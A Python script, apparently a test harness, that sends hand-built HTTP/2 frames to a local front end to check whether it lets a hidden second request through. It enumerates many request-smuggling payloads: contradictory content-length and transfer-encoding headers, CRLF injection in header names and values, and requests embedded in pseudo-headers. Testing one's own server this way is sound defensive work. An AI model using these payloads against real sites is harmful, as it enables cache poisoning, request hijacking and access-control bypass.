"""Sends a front end requests over HTTP/2 that hide another one, `GET /smuggled`, in their body or in their headers.

    hidden-requests NAME...

For each web site NAME and each way of hiding, a connection of its own (without TLS, port 80 of [::1]): the request, an ordinary one behind it in the
same connection, and an ordinary one over HTTP/1. Prints, as JSON, the ways for which the last one was not answered with 200. Frames are written
here, since no library sends what these are (RFC 9113, section 8.2 and 8.3): headers as literals without an index (RFC 7541, section 6.2.2).
"""

import http.client
import json
import socket
import struct
import sys

hidden = b"GET /smuggled HTTP/1.1\r\nHost: %s\r\n\r\n"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(number):
    """Of a text, with a prefix of 7 bits (RFC 7541, section 5.1)."""
    if number < 127:
        return bytes([number])
    number, octets = number - 127, b"\x7f"
    while number >= 128:
        octets += bytes([number % 128 + 128])
        number //= 128
    return octets + bytes([number])


def block(headers):
    return b"".join(b"\0" + length(len(name)) + name + length(len(value)) + value for name, value in headers)


def ways(name):
    """Changes of pseudo-headers, more headers, and the body."""
    body = hidden % name
    chunked = b"0\r\n\r\n" + body
    number = str(len(chunked)).encode()
    inject = b"\r\nTransfer-Encoding: chunked"
    for method in (b"GET", b"POST", b"HEAD"):
        for what, headers in {
            "no length": [],
            "length 0": [(b"content-length", b"0")],
            "too short a length": [(b"content-length", b"5")],
            "too long a length": [(b"content-length", b"%d" % (len(chunked) + 40))],
            "a length with a sign": [(b"content-length", b"+5")],
            "a list of lengths": [(b"content-length", b"5, " + number)],
            "two lengths": [(b"content-length", b"5"), (b"content-length", number)],
            "chunks": [(b"transfer-encoding", b"chunked")],
            "chunks and a length": [(b"content-length", number), (b"transfer-encoding", b"chunked")],
            "chunks that the server may not see": [(b"connection", b"transfer-encoding"), (b"transfer-encoding", b"chunked")],
            "a length that the server may not see": [(b"connection", b"content-length"), (b"content-length", number)],
            "te": [(b"te", b"chunked"), (b"content-length", number)],
            "a length in capitals": [(b"Content-Length", b"0")],
            "an upgrade": [(b"upgrade", b"websocket"), (b"connection", b"upgrade"), (b"content-length", b"0")],
        }.items():
            yield f"{method.decode()}, {what}", {b":method": method}, headers, chunked
    for what, more in {
        "the value of a header": [(b"x-a", b"b" + inject)],
        "the name of a header": [(b"x-a: b" + inject + b"\r\nx", b"c")],
        "a colon in a name": [(b"transfer-encoding:chunked", b"x")],
        "a cookie": [(b"cookie", b"a=b" + inject)],
        "a range": [(b"range", b"bytes=0-1" + inject)],
    }.items():
        yield f"lines in {what}", {}, more, chunked
    line = b" HTTP/1.1\r\nHost: %s\r\n\r\nGET /smuggled" % name
    yield "a request in the path", {b":path": b"/" + line}, [], b""
    yield "a request in the method", {b":method": b"GET /" + line + b" HTTP/1.1\r\nx:"}, [], b""
    yield "a request in the name", {b":authority": name + b"\r\n\r\n" + body}, [], b""
    yield "a request in the scheme", {b":scheme": b"http://" + name + b"/" + line}, [], b""


def ask(name, pseudo, headers, body):
    """Both requests in one connection, until the server ends it or the second one is answered."""
    usual = {b":method": b"GET", b":scheme": b"http", b":authority": name, b":path": b"/"}
    with socket.create_connection(("::1", 80), timeout=20) as connection:
        sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
        sent += frame(1, 4 if body else 5, 1, block([*{**usual, **pseudo}.items(), *headers]))
        if body:
            sent += frame(0, 1, 1, body)
        sent += frame(1, 5, 3, block([*{**usual, b":path": b"/after"}.items()]))
        connection.sendall(sent)
        got = b""
        try:
            while some := connection.recv(65536):
                got += some
                while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3]):
                    kind, flags, stream = got[3], got[4], int.from_bytes(got[5:9])
                    got = got[9 + int.from_bytes(got[:3]) :]
                    # The end of stream 3, by an answer, its body or an error, or of the connection.
                    if kind == 7 or (stream == 3 and (kind == 3 or (kind in (0, 1) and flags & 1))):
                        return
        except ConnectionError:
            pass


failed, count = [], 0
for name in sys.argv[1:]:
    for what, pseudo, headers, body in ways(name.encode()):
        count += 1
        ask(name.encode(), pseudo, headers, body)
        plain = http.client.HTTPConnection("::1", 80, timeout=20)
        plain.request("GET", "/next", headers={"Host": name})
        if plain.getresponse().status != 200:
            failed.append(f"{name}: {what}")
print(json.dumps({"asked": count, "failed": failed}))
